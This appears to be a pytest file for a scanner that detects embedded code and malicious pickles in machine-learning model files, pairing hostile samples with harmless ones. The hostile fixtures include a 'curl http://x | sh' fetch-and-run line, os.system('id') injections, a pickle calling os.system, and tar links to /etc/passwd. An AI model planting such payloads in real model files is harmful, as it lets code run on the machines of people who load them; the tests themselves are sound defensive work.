"""Formats that hold data: code and pickles in them, and operators that need somebody's code."""

from __future__ import annotations

import io
import json
import struct
import tarfile

import pytest

from checker.extract.artifact.facts import CodeReference, CodeText, Reach
from tests.extract.artifact import builders as b
from tests.extract.artifact.archives import plain_zip, tarred
from tests.extract.artifact.findings import fails, findings
from tests.extract.artifact.opcodes import PAYLOAD, pickled
from tests.helpers import facts_of

EVIL = pickled(PAYLOAD)
GOOD = pickled(b"}")
TABLES = b.hdf5({"PYTABLES_FORMAT_VERSION": b"2.1"})
LAMBDA = {"class_name": "lambda", "config": {"function": ["4w==", None, None]}}


def pmml(body: str) -> bytes:
    return f'<?xml version="1.0"?><PMML version="4.4">{body}</PMML>'.encode()


def symbol(*nodes: object) -> bytes:
    return json.dumps({"nodes": nodes, "arg_nodes": [], "heads": []}).encode()


def integer(value: int) -> bytes:
    return struct.pack("<i", value)


def chars(text: bytes) -> bytes:
    return integer(len(text)) + text


def torch7(name: bytes, body: bytes) -> bytes:
    """An object of that class."""
    return integer(4) + integer(1) + chars(b"V 1") + chars(name) + body


TABLE = integer(3) + integer(2) + integer(1) + integer(2) + chars(b"a")
FUNCTION = integer(8) + integer(3) + chars(b"\x1bLJ\2") + integer(0)
STORAGE = (
    integer(4) + integer(3) + chars(b"V 1") + chars(b"torch.FloatStorage")
    + struct.pack("<q2f", 2, 1.0, 2.0)
)  # fmt: skip
TENSOR = torch7(b"torch.FloatTensor", integer(1) + struct.pack("<3q", 2, 1, 1) + STORAGE)
TEXT = b"4\n1\n3\nV 1\n8\nnn.Model\n3\n2\n1\n2\n1\na\n"


def script(code: bytes) -> bytes:
    members = {"m/data.pkl": GOOD, "m/constants.pkl": GOOD, "m/version": b"3"}
    return plain_zip({**members, "m/code/__torch__.py": code})


def mlmodel(*lines: str) -> bytes:
    return "\n".join(["flavors:", "  python_function:", *(f"    {one}" for one in lines)]).encode()


def damaged_tar() -> bytes:
    content = tarred({"data.pkl": EVIL})
    return content[:148] + b"0000000\0" + content[156:]


HOSTILE = {
    "pmml-script": ("m.pmml", pmml("<Extension><script>eval('1')</script></Extension>")),
    "pmml-java": ("m.pmml", pmml('<Apply function="org.mine.Function"/>')),
    "engine-python": ("m.plan", b"ftrt" + bytes(40) + b"import os; os.system('id')" + bytes(40)),
    "engine-shell": ("m.engine", b"ftrt" + bytes(40) + b"curl http://x | sh" + bytes(40)),
    "engine-pickle": ("m.engine", b"ftrt" + bytes(40) + EVIL + bytes(40)),
    "pte-pickle": ("m.pte", b"\x10\0\0\0ET12" + bytes(20) + EVIL),
    "pte-backend": ("m.pte", b"\x10\0\0\0ET12" + bytes(20) + b"MineBackend" + bytes(20)),
    "npy-header": ("a.npy", b"\x93NUMPY\1\0\x20\0__import__('os').system('id')\n  "),
    "mxnet-custom": ("m-symbol.json", symbol({"op": "Custom", "attrs": {"op_type": "mine"}})),
    "mxnet-native": ("m-symbol.json", symbol({"op": "_Native", "param": {"info": "0x1"}})),
    "torch7-function": ("m.t7", torch7(b"nn.Model", TABLE + FUNCTION)),
    "torch7-text": ("m.t7", TEXT + b"8\n3\n4\nabcd\n0\n"),
    "torch7-without-a-name": ("model", torch7(b"nn.Model", TABLE + FUNCTION)),
    "torch7-code": ("m.t7", b"T7\0\0 os.execute('id')"),
    "script-python": ("m.pt", script(b"def forward(self, x):\n    _0 = ^PythonOp()(x)\n")),
    "mlflow-program": ("MLmodel", mlmodel("loader_module: mlflow", "model_code_path: agent.py")),
    "mlflow-program-elsewhere": ("MLmodel", mlmodel("model_code_path: /tmp/agent.py")),
    "mlflow-folder": ("MLmodel", mlmodel("loader_module: mlflow.pyfunc.model", "code: code")),
    "keras-lambda": ("m.keras", b.keras_zip(b.keras_model(LAMBDA))),
    "tar-behind-the-end": ("m.tar", tarred({"a": b"x"}) + tarred({"data.pkl": EVIL})),
    "tar-checksum": ("m.tar", damaged_tar()),
    "hdf5-rows": ("m.h5", TABLES + bytes(64) + EVIL),
    "hdf5-old-rows": ("m.h5", TABLES + b.heap(b"cos\nsystem\n(S'id'\ntR.")),
}  # fmt: skip

HARMLESS = {
    "pmml": ("m.pmml", pmml('<Extension name="x" value="y"/><Apply function="x-log1p"/>')),
    "engine": ("m.plan", b"ftrt" + bytes(40) + b"compile(eval) exec_ os. subprocess" + bytes(40)),
    "pte": ("m.pte", b"\x10\0\0\0ET12" + bytes(20) + b"XnnpackBackend\0" + bytes(20)),
    "pte-data": ("m.pte", b"\x10\0\0\0ET12" + bytes(range(256)) * 400),
    "mxnet": ("m-symbol.json", symbol({"op": "null"}, {"op": "FullyConnected", "attrs": {}})),
    "mxnet-other": ("my-symbol.json", b'{"a": 1}'),
    "torch7": ("m.t7", torch7(b"nn.Model", TABLE + TENSOR)),
    "torch7-text": ("m.t7", TEXT + b"1\n0.5\n"),
    "mlflow": ("MLmodel", mlmodel("loader_module: mlflow.sklearn", "code: null", "data: model")),
    "script": ("m.pt", script(b"def forward(self, x):\n    _0 = torch.add(x, 1) ^ 2\n")),
    "tar-padded": ("m.tar", tarred({"a": b"x"}) + bytes(30_000)),
    "tar-damaged": ("m.tar", tarred({"a": b"x"})[:148] + b"0000000\0" + tarred({"a": b"x"})[156:]),
    "hdf5": ("m.h5", TABLES + bytes(range(256)) * 100),
}  # fmt: skip


@pytest.mark.parametrize("label", HOSTILE)
def test_found(label: str):
    file, content = HOSTILE[label]
    assert fails(content, file), findings(content, file)


@pytest.mark.parametrize("label", HARMLESS)
def test_left_alone(label: str):
    file, content = HARMLESS[label]
    assert not fails(content, file), findings(content, file)


def test_code_is_told_where_it_stands():
    (code,) = (
        one for one in facts_of(*HOSTILE["engine-python"]).facts if isinstance(one, CodeText)
    )
    assert (code.format, code.language, code.where) == ("tensorrt", "python", "engine")
    assert code.text == "os.system('id')"
    assert code.at.byte_offset == 55


def test_functions_of_lua():
    found = [one for one in facts_of(*HOSTILE["torch7-text"]).facts if isinstance(one, CodeText)]
    assert [(one.language, one.compiled) for one in found] == [("lua", True)]


def test_torch7_that_breaks_off():
    found = facts_of("m.t7", torch7(b"nn.Model", TABLE + FUNCTION)[:60])
    assert [one.code for one in found.problems] == ["torch7.broken"]


def test_operators_of_mxnet():
    nodes = [{"op": "Custom", "attrs": {"op_type": "mine"}, "name": "n"}] * 3
    found = [
        one for one in facts_of("m-symbol.json", symbol(*nodes)).facts if isinstance(one, Reach)
    ]
    assert [(one.name, one.domain, one.where) for one in found] == [("mine", "custom", "n")]


def test_what_an_mlflow_model_brings():
    found = facts_of("MLmodel", mlmodel("model_code_path: agent.py", "code: code"))
    told = [(one.what, one.target) for one in found.facts if isinstance(one, CodeReference)]
    assert told == [("mlflow_code", "agent.py"), ("mlflow_folder", "code")]


def test_links_within_a_tar():
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w") as archive:
        for name, target in (("m/a", "/etc/passwd"), ("m/b", "../../x"), ("m/c", "d")):
            for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE):
                info = tarfile.TarInfo(f"{name}{kind.decode()}")
                info.type, info.linkname = kind, target
                archive.addfile(info)
    found = [one.message for one in findings(stream.getvalue(), "m.nemo")]
    assert len([one for one in found if "outside its folder" in one]) == 2
